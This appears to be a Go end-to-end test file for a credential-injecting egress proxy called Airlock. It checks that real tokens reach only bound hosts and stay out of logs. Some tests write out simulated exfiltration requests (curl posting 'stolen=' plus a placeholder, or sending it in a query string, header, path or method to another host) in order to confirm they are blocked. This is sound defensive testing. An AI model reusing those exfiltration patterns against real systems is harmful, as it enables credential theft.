package e2e

import (
	"bufio"
	"crypto/rand"
	"crypto/rsa"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"

	"github.com/airlockhq/airlock/internal/testutil"
)

const (
	realToken   = "ghs_REALTOKEN_e2e_0123456789abcdefXYZ"
	placeholder = "placeholder-for-the-sandbox-0001"
)

// credentialSetup runs Airlock with a credential bound to api.allowed.test
// (an HTTPS upstream that echoes request headers at /headers) whose value
// comes from the environment of Airlock's process; the sandbox holds only
// placeholder. other.allowed.test is allowed too, without a credential.
//
// With a non-empty otherCredential, other.allowed.test's rule injects that
// credential, defined by the extra lines under credentials.
func credentialSetup(t *testing.T, otherCredential string, extraCred ...string) (*testutil.Proxy, *testutil.Upstream, *x509.CertPool, string) {
	t.Helper()
	upCA := testutil.NewCA(t)
	up := testutil.NewTLSUpstream(t, upCA, "api.allowed.test", "other.allowed.test")
	dir := t.TempDir()
	t.Setenv("AIRLOCK_E2E_TOKEN", realToken) // the airlock process inherits it; the clients are told nothing
	otherRule := ""
	if otherCredential != "" {
		otherRule = "        credential: " + otherCredential
	}
	cfg := fmt.Sprintf(`
network:
  allow_cidrs: [127.0.0.1/32]
  hosts: {api.allowed.test: 127.0.0.1, other.allowed.test: 127.0.0.1}
tls:
  upstream_ca: %s
policies:
  default:
    allow:
      - host: api.allowed.test
        ports: [%[2]d]
        credential: api
      - host: other.allowed.test
        ports: [%[2]d]
        paths: ["/**"]
%[4]s
credentials:
  api:
    source: {env: AIRLOCK_E2E_TOKEN}
    hosts: [api.allowed.test]
    placeholder: %[3]s
%[5]s`, upCA.WritePEM(t, dir), up.Port(), placeholder, otherRule, strings.Join(extraCred, "\n"))
	p := testutil.StartProxy(t, cfg)
	caPEM, err := execOutputOnly(testutil.Binary(t), "ca", "export", "--dir", p.StateDir)
	if err != nil {
		t.Fatal(err)
	}
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM([]byte(caPEM))
	caFile := filepath.Join(dir, "airlock-ca.pem")
	os.WriteFile(caFile, []byte(caPEM), 0o644)
	return p, up, pool, caFile
}

// noSecretsInLogs fails if any log line holds the real token or the
// placeholder.
func noSecretsInLogs(t *testing.T, p *testutil.Proxy) {
	t.Helper()
	p.StopAndFlush(t) // every line written, then searched
	for _, l := range append(p.AuditLines(), strings.Split(p.Stderr(), "\n")...) {
		if strings.Contains(l, realToken) || strings.Contains(l, placeholder) || strings.Contains(l, "REALTOKEN") {
			t.Errorf("a secret or placeholder in a log line: %s", l)
		}
	}
}

func TestCredentialIsInjectedForBoundHostOnly(t *testing.T) {
	p, up, _, caFile := credentialSetup(t, "")
	base := fmt.Sprintf("https://api.allowed.test:%d", up.Port())

	// The sandbox sends its placeholder; the upstream sees the real token.
	code, body := curl(t, p.URL(), "--cacert", caFile, "-H", "Authorization: Bearer "+placeholder, base+"/headers")
	if code != 200 {
		t.Fatalf("bound host: %d %s", code, body)
	}
	seen := up.Requests()
	if len(seen) != 1 || seen[0].Header.Get("Authorization") != "Bearer "+realToken {
		t.Fatalf("upstream saw Authorization %q, want the real token", seen[0].Header.Get("Authorization"))
	}
	// The upstream echoed the headers: the client never sees the real value.
	if strings.Contains(body, realToken) || !strings.Contains(body, strings.Repeat("*", len(realToken))) {
		t.Errorf("the echoed response was not scrubbed: %s", body)
	}

	// Without any Authorization the credential is injected all the same.
	code, _ = curl(t, p.URL(), "--cacert", caFile, base+"/headers")
	if code != 200 || up.Requests()[1].Header.Get("Authorization") != "Bearer "+realToken {
		t.Fatalf("no client header: %d", code)
	}

	// The placeholder sent to another allowed host is an exfiltration attempt.
	other := fmt.Sprintf("https://other.allowed.test:%d/collect", up.Port())
	for _, args := range [][]string{
		{"-H", "Authorization: Bearer " + placeholder, other},
		{other + "?token=" + placeholder},
		{"--data", "stolen=" + placeholder, other},
		{"-H", "X-Debug: " + placeholder, base + "/headers"}, // another header, even on the bound host
	} {
		code, body := curl(t, p.URL(), append([]string{"--cacert", caFile}, args...)...)
		if code != 403 || !strings.Contains(body, "credential_host_mismatch") {
			t.Errorf("curl %v: %d %s", args, code, body)
		}
	}
	if n := len(up.Requests()); n != 2 {
		t.Errorf("upstream saw %d requests, want only the 2 allowed ones", n)
	}
	alerts := 0
	for _, ev := range p.WaitAudit(t, 6) {
		if ev["alert"] == "placeholder_exfiltration" {
			alerts++
			wantFields(t, ev, map[string]any{"severity": "high", "credential": "api", "reason": "credential_host_mismatch", "decision": "deny"})
		}
		if ev["event"] == "http.request" && ev["decision"] == "allow" && ev["credential"] != "api" {
			t.Errorf("an injected request's line does not name the credential: %v", ev)
		}
	}
	if alerts != 4 {
		t.Errorf("%d alert lines, want 4", alerts)
	}
	noSecretsInLogs(t, p)
}

func TestDuplicateAuthorizationHeadersAreReplacedNotForwarded(t *testing.T) {
	p, up, pool, _ := credentialSetup(t, "")
	c := httpClient(p.URL(), pool)
	req, _ := http.NewRequest("GET", fmt.Sprintf("https://api.allowed.test:%d/headers", up.Port()), nil)
	req.Header.Add("Authorization", "Bearer "+placeholder)
	req.Header.Add("Authorization", "Bearer attacker-chosen-value")
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if got := up.Requests()[0].Header.Values("Authorization"); len(got) != 1 || got[0] != "Bearer "+realToken {
		t.Errorf("upstream saw Authorization %q", got)
	}
	noSecretsInLogs(t, p)
}

func TestRedirectIsNotFollowedWithTheCredential(t *testing.T) {
	p, up, pool, _ := credentialSetup(t, "")
	target := fmt.Sprintf("https://api.allowed.test:%d/redirect?to=https://other.allowed.test:%d/headers", up.Port(), up.Port())
	resp, _ := get(t, httpClient(p.URL(), pool), target)
	if resp.StatusCode != http.StatusFound {
		t.Fatalf("got %d, want the 302 itself", resp.StatusCode)
	}
	if n := len(up.Requests()); n != 1 {
		t.Errorf("upstream saw %d requests: the redirect was followed", n)
	}
	noSecretsInLogs(t, p)
}

func TestCredentialUnavailableAnswers502AndNeverForwards(t *testing.T) {
	p, up, _, caFile := credentialSetup(t, "broken", `  broken:
    source: {command: ["sh", "-c", "echo no token for you >&2; exit 3"]}
    hosts: [other.allowed.test]`)
	code, body := curl(t, p.URL(), "--cacert", caFile, fmt.Sprintf("https://other.allowed.test:%d/x", up.Port()))
	if code != 502 || !strings.Contains(body, "could not obtain the credential") {
		t.Fatalf("got %d %s, want 502", code, body)
	}
	if n := len(up.Requests()); n != 0 {
		t.Fatalf("the request was forwarded without its credential (%d upstream requests)", n)
	}
	ev := p.WaitAudit(t, 1)[0]
	wantFields(t, ev, map[string]any{"reason": "credential_unavailable", "credential": "broken", "http.response.status_code": 502})
	noSecretsInLogs(t, p)
}

// A credential goes only over TLS unless it says otherwise: plain HTTP to
// the bound host name is refused, not sent in the clear.
func TestCredentialIsNeverSentOverPlainHTTP(t *testing.T) {
	plain := testutil.NewUpstream(t)
	t.Setenv("AIRLOCK_E2E_TOKEN", realToken)
	p := testutil.StartProxy(t, fmt.Sprintf(`
network:
  allow_cidrs: [127.0.0.1/32]
  hosts: {api.allowed.test: 127.0.0.1}
policies:
  default:
    allow:
      - host: api.allowed.test
        ports: [%d]
        credential: api
credentials:
  api:
    source: {env: AIRLOCK_E2E_TOKEN}
    hosts: [api.allowed.test]
    placeholder: %s
`, plain.Port(), placeholder))
	resp, body := get(t, httpClient(p.URL(), nil), fmt.Sprintf("http://api.allowed.test:%d/headers", plain.Port()))
	if resp.StatusCode != 403 || !strings.Contains(body, "credential_requires_tls") {
		t.Fatalf("got %d %s", resp.StatusCode, body)
	}
	if n := len(plain.Requests()); n != 0 {
		t.Fatalf("plain HTTP reached the upstream %d times", n)
	}
	noSecretsInLogs(t, p)
}

func TestAirlockEnvPrintsPlaceholdersNotSecrets(t *testing.T) {
	dir := t.TempDir()
	cfg := filepath.Join(dir, "a.yaml")
	os.WriteFile(cfg, []byte(`
policies:
  default:
    allow:
      - host: api.github.com
        credential: github
credentials:
  github:
    source: {env: GITHUB_TOKEN}
    hosts: [api.github.com]
`), 0o600)
	cmd := exec.Command(testutil.Binary(t), "env", "--config", cfg, "--state-dir", filepath.Join(dir, "state"), "--proxy", "airlock:3128", "--sandbox", "default")
	cmd.Env = append(os.Environ(), "GITHUB_TOKEN="+realToken)
	out, err := cmd.Output()
	if err != nil {
		t.Fatal(err)
	}
	env := map[string]string{}
	sc := bufio.NewScanner(strings.NewReader(string(out)))
	for sc.Scan() {
		if k, v, ok := strings.Cut(strings.TrimPrefix(sc.Text(), "export "), "="); ok && !strings.HasPrefix(k, "#") {
			env[k] = strings.Trim(v, "'")
		}
	}
	if env["HTTPS_PROXY"] != "http://airlock:3128" || env["NO_PROXY"] == "" {
		t.Errorf("proxy variables: %v", env)
	}
	for _, k := range []string{"SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "NODE_EXTRA_CA_CERTS", "GIT_SSL_CAINFO", "CURL_CA_BUNDLE"} {
		if !strings.HasSuffix(env[k], "ca-bundle.pem") {
			t.Errorf("%s = %q", k, env[k])
		}
	}
	// The bundle holds Airlock's CA (and the system roots, where the
	// machine has them), so opaque hosts still verify.
	bundle, err := os.ReadFile(env["SSL_CERT_FILE"])
	caPEM, _ := os.ReadFile(filepath.Join(dir, "state", "ca.pem"))
	if err != nil || len(caPEM) == 0 || !strings.Contains(string(bundle), string(caPEM)) {
		t.Errorf("the CA bundle lacks Airlock's CA: %v", err)
	}
	if ph := env["GITHUB_TOKEN"]; !strings.HasPrefix(ph, "airlock-placeholder-") || strings.Contains(string(out), realToken) {
		t.Errorf("GITHUB_TOKEN = %q; output:\n%s", ph, out)
	}
	// The same sandbox gets the same placeholder next time.
	again, _ := exec.Command(testutil.Binary(t), "env", "--config", cfg, "--state-dir", filepath.Join(dir, "state")).Output()
	if !strings.Contains(string(again), env["GITHUB_TOKEN"]) {
		t.Error("the placeholder changed between runs")
	}
}

// The GitHub App flow through the real binary: Airlock signs the app JWT,
// asks a local fake GitHub API (through its own guarded dialer) for an
// installation token narrowed to one repository, and injects it. Without
// an allow_cidrs exception for the fake API's loopback address, the mint
// itself is refused: token endpoints get the same address checks.
func TestGitHubAppTokenIsMintedAndInjected(t *testing.T) {
	appKey, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	keyFile := filepath.Join(t.TempDir(), "app.pem")
	os.WriteFile(keyFile, pem.EncodeToMemory(&pem.Block{Type: "RSA PRIVATE KEY", Bytes: x509.MarshalPKCS1PrivateKey(appKey)}), 0o600)

	upCA := testutil.NewCA(t)
	var mints atomic.Int32
	const installToken = "ghs_minted_installation_token_0042"
	ghAPI := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/app/installations/42/access_tokens" {
			w.WriteHeader(http.StatusNotFound)
			return
		}
		_, err := jwt.Parse(strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer "),
			func(*jwt.Token) (any, error) { return &appKey.PublicKey, nil }, jwt.WithIssuer("777"), jwt.WithValidMethods([]string{"RS256"}))
		var body struct{ Repositories []string }
		json.NewDecoder(r.Body).Decode(&body)
		if err != nil || len(body.Repositories) != 1 || body.Repositories[0] != "repo" {
			w.WriteHeader(http.StatusUnauthorized)
			return
		}
		mints.Add(1)
		w.WriteHeader(http.StatusCreated)
		fmt.Fprintf(w, `{"token":%q,"expires_at":%q}`, installToken, time.Now().Add(time.Hour).UTC().Format(time.RFC3339))
	}))
	ghAPI.TLS = &tls.Config{Certificates: []tls.Certificate{upCA.Leaf(t, "ghapi.test")}}
	ghAPI.StartTLS()
	defer ghAPI.Close()
	apiPort := ghAPI.Listener.Addr().(*net.TCPAddr).Port
	up := testutil.NewTLSUpstream(t, upCA, "api.allowed.test")
	dir := t.TempDir()

	config := func(allowLoopback bool) string {
		cidrs := ""
		if allowLoopback {
			cidrs = "  allow_cidrs: [127.0.0.1/32]\n"
		}
		return fmt.Sprintf(`
network:
%s  hosts: {api.allowed.test: 127.0.0.1, ghapi.test: 127.0.0.1}
tls:
  upstream_ca: %s
policies:
  default:
    allow:
      - host: api.allowed.test
        ports: [%d]
        credential: gh
credentials:
  gh:
    source:
      github_app: {app_id: "777", installation_id: 42, private_key: {file: %s}, api_url: "https://ghapi.test:%d", repositories: [repo], permissions: {contents: read}}
    hosts: [api.allowed.test]
    placeholder: %s
`, cidrs, upCA.WritePEM(t, dir), up.Port(), keyFile, apiPort, placeholder)
	}
	p := testutil.StartProxy(t, config(true))
	caPEM, _ := execOutputOnly(testutil.Binary(t), "ca", "export", "--dir", p.StateDir)
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM([]byte(caPEM))
	c := httpClient(p.URL(), pool)
	for range 3 {
		resp, body := get(t, c, fmt.Sprintf("https://api.allowed.test:%d/headers", up.Port()))
		if resp.StatusCode != 200 || strings.Contains(body, installToken) {
			t.Fatalf("%d %s", resp.StatusCode, body)
		}
	}
	for _, r := range up.Requests() {
		if r.Header.Get("Authorization") != "Bearer "+installToken {
			t.Fatalf("upstream saw Authorization %q", r.Header.Get("Authorization"))
		}
	}
	if n := mints.Load(); n != 1 {
		t.Errorf("%d installation tokens minted for 3 requests, want 1", n)
	}
	p.StopAndFlush(t)
	for _, l := range append(p.AuditLines(), p.Stderr()) {
		if strings.Contains(l, installToken) {
			t.Errorf("the installation token in a log line: %s", l)
		}
	}

	// The same flow without the loopback exception: the token endpoint is
	// a blocked address, the mint fails, the request is not sent.
	blocked := testutil.StartProxy(t, config(false))
	caPEM, _ = execOutputOnly(testutil.Binary(t), "ca", "export", "--dir", blocked.StateDir)
	pool = x509.NewCertPool()
	pool.AppendCertsFromPEM([]byte(caPEM))
	resp, body := get(t, httpClient(blocked.URL(), pool), fmt.Sprintf("https://api.allowed.test:%d/headers", up.Port()))
	if resp.StatusCode != http.StatusBadGateway || !strings.Contains(body, "could not obtain the credential") {
		t.Fatalf("mint through a blocked address: %d %s", resp.StatusCode, body)
	}
	if n := mints.Load(); n != 1 {
		t.Errorf("the fake API was reached through a blocked address (%d mints)", n)
	}
	if !blocked.WaitStderr("blocked") {
		t.Errorf("the operator is not told why:\n%s", blocked.Stderr())
	}
}

// An upstream that echoes the injected credential in a form Airlock cannot
// mask (gzip), or after the body (a trailer), must not get it to the
// sandbox.
func TestEchoedCredentialNeverReachesTheSandbox(t *testing.T) {
	p, up, _, caFile := credentialSetup(t, "")
	base := fmt.Sprintf("https://api.allowed.test:%d", up.Port())
	code, body := curl(t, p.URL(), "--cacert", caFile, "--compressed", base+"/gzip-headers")
	if code != 502 || strings.Contains(body, realToken) {
		t.Errorf("gzip echo: %d %q", code, body)
	}
	if got := up.Requests()[0].Header.Get("Accept-Encoding"); got != "identity" {
		t.Errorf("upstream was offered Accept-Encoding %q, want identity", got)
	}
	out, err := exec.Command(testutil.NeedTool(t, "curl"), "-sS", "-x", p.URL(), "--cacert", caFile, "-D", "-", "--raw", base+"/trailer").CombinedOutput()
	if err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	if strings.Contains(string(out), realToken) || !strings.Contains(string(out), "body first") {
		t.Errorf("trailer echo reached the client:\n%s", out)
	}
	noSecretsInLogs(t, p)
}

func TestPlaceholderInPathOrMethodIsCaughtAndNotLogged(t *testing.T) {
	p, up, _, caFile := credentialSetup(t, "")
	other := fmt.Sprintf("https://other.allowed.test:%d", up.Port())
	for _, args := range [][]string{
		{other + "/x/" + placeholder},
		{other + "/x/" + strings.ToUpper(placeholder)},
		{"-X", placeholder, other + "/"},
	} {
		code, _ := curl(t, p.URL(), append([]string{"--cacert", caFile}, args...)...)
		if code != 403 {
			t.Errorf("curl %v: %d", args, code)
		}
	}
	if n := len(up.Requests()); n != 0 {
		t.Errorf("upstream saw %d requests", n)
	}
	p.WaitAudit(t, 3)
	for _, l := range p.AuditLines() {
		if strings.Contains(strings.ToLower(l), placeholder) {
			t.Errorf("placeholder in an audit line: %s", l)
		}
	}
	noSecretsInLogs(t, p)
}

// OAuth2 client credentials and per-request JWTs through the real binary:
// the token endpoint (on loopback, so reachable only through allow_cidrs)
// is asked once for many requests; the JWT upstream verifies the
// signature with the public key and finds aud = its host, sub = sandbox.
func TestOAuth2AndJWTCredentialsThroughAirlock(t *testing.T) {
	upCA := testutil.NewCA(t)
	dir := t.TempDir()

	var tokenCalls atomic.Int32
	tokenEP := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		r.ParseForm()
		id, secret, _ := r.BasicAuth()
		if r.Form.Get("grant_type") != "client_credentials" || id != "airlock" || secret != "oauth-client-secret" {
			w.WriteHeader(http.StatusUnauthorized)
			return
		}
		tokenCalls.Add(1)
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"access_token":"oauth-access-token-0001","token_type":"bearer","expires_in":3600}`)
	}))
	tokenEP.TLS = &tls.Config{Certificates: []tls.Certificate{upCA.Leaf(t, "auth.test")}}
	tokenEP.StartTLS()
	defer tokenEP.Close()
	tokenPort := tokenEP.Listener.Addr().(*net.TCPAddr).Port

	signer, _ := rsa.GenerateKey(rand.Reader, 2048)
	keyFile := filepath.Join(dir, "jwt.pem")
	os.WriteFile(keyFile, pem.EncodeToMemory(&pem.Block{Type: "RSA PRIVATE KEY", Bytes: x509.MarshalPKCS1PrivateKey(signer)}), 0o600)

	up := testutil.NewTLSUpstream(t, upCA, "oauth.allowed.test", "jwt.allowed.test")
	t.Setenv("AIRLOCK_E2E_OAUTH_SECRET", "oauth-client-secret")
	p := testutil.StartProxy(t, fmt.Sprintf(`
network:
  allow_cidrs: [127.0.0.1/32]
  hosts: {oauth.allowed.test: 127.0.0.1, jwt.allowed.test: 127.0.0.1, auth.test: 127.0.0.1}
tls:
  upstream_ca: %s
policies:
  default:
    allow:
      - host: oauth.allowed.test
        ports: [%[2]d]
        credential: oauth
      - host: jwt.allowed.test
        ports: [%[2]d]
        credential: signed
credentials:
  oauth:
    source:
      oauth2: {token_url: "https://auth.test:%[3]d/token", client_id: airlock, client_secret: {env: AIRLOCK_E2E_OAUTH_SECRET}, scopes: [read]}
    hosts: [oauth.allowed.test]
  signed:
    source:
      jwt: {algorithm: RS256, key: {file: %[4]s}, issuer: airlock-e2e, ttl: 2m}
    hosts: [jwt.allowed.test]
`, upCA.WritePEM(t, dir), up.Port(), tokenPort, keyFile))
	caPEM, _ := execOutputOnly(testutil.Binary(t), "ca", "export", "--state-dir", p.StateDir)
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM([]byte(caPEM))
	c := httpClient(p.URL(), pool)

	for range 5 {
		if resp, body := get(t, c, fmt.Sprintf("https://oauth.allowed.test:%d/headers", up.Port())); resp.StatusCode != 200 {
			t.Fatalf("oauth: %d %s", resp.StatusCode, body)
		}
		if resp, body := get(t, c, fmt.Sprintf("https://jwt.allowed.test:%d/headers", up.Port())); resp.StatusCode != 200 {
			t.Fatalf("jwt: %d %s", resp.StatusCode, body)
		}
	}
	if n := tokenCalls.Load(); n != 1 {
		t.Errorf("the token endpoint was asked %d times for 5 requests, want 1", n)
	}
	var jwts []string
	for _, r := range up.Requests() {
		auth := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
		switch r.Host {
		case fmt.Sprintf("oauth.allowed.test:%d", up.Port()):
			if auth != "oauth-access-token-0001" {
				t.Errorf("oauth upstream saw %q", auth)
			}
		case fmt.Sprintf("jwt.allowed.test:%d", up.Port()):
			_, err := jwt.Parse(auth, func(*jwt.Token) (any, error) { return &signer.PublicKey, nil },
				jwt.WithValidMethods([]string{"RS256"}), jwt.WithAudience("jwt.allowed.test"), jwt.WithSubject("default"),
				jwt.WithIssuer("airlock-e2e"), jwt.WithExpirationRequired())
			if err != nil {
				t.Errorf("the upstream cannot verify the JWT: %v", err)
			}
			jwts = append(jwts, auth)
		}
	}
	if len(jwts) != 5 || jwts[0] != jwts[4] {
		t.Errorf("JWTs: %d seen, reused: %v", len(jwts), len(jwts) == 5 && jwts[0] == jwts[4])
	}
	p.StopAndFlush(t)
	for _, l := range append(p.AuditLines(), p.Stderr()) {
		if strings.Contains(l, "oauth-access-token") || strings.Contains(l, "oauth-client-secret") || (len(jwts) > 0 && strings.Contains(l, jwts[0])) {
			t.Errorf("a token or secret in a log line: %s", l)
		}
	}
}
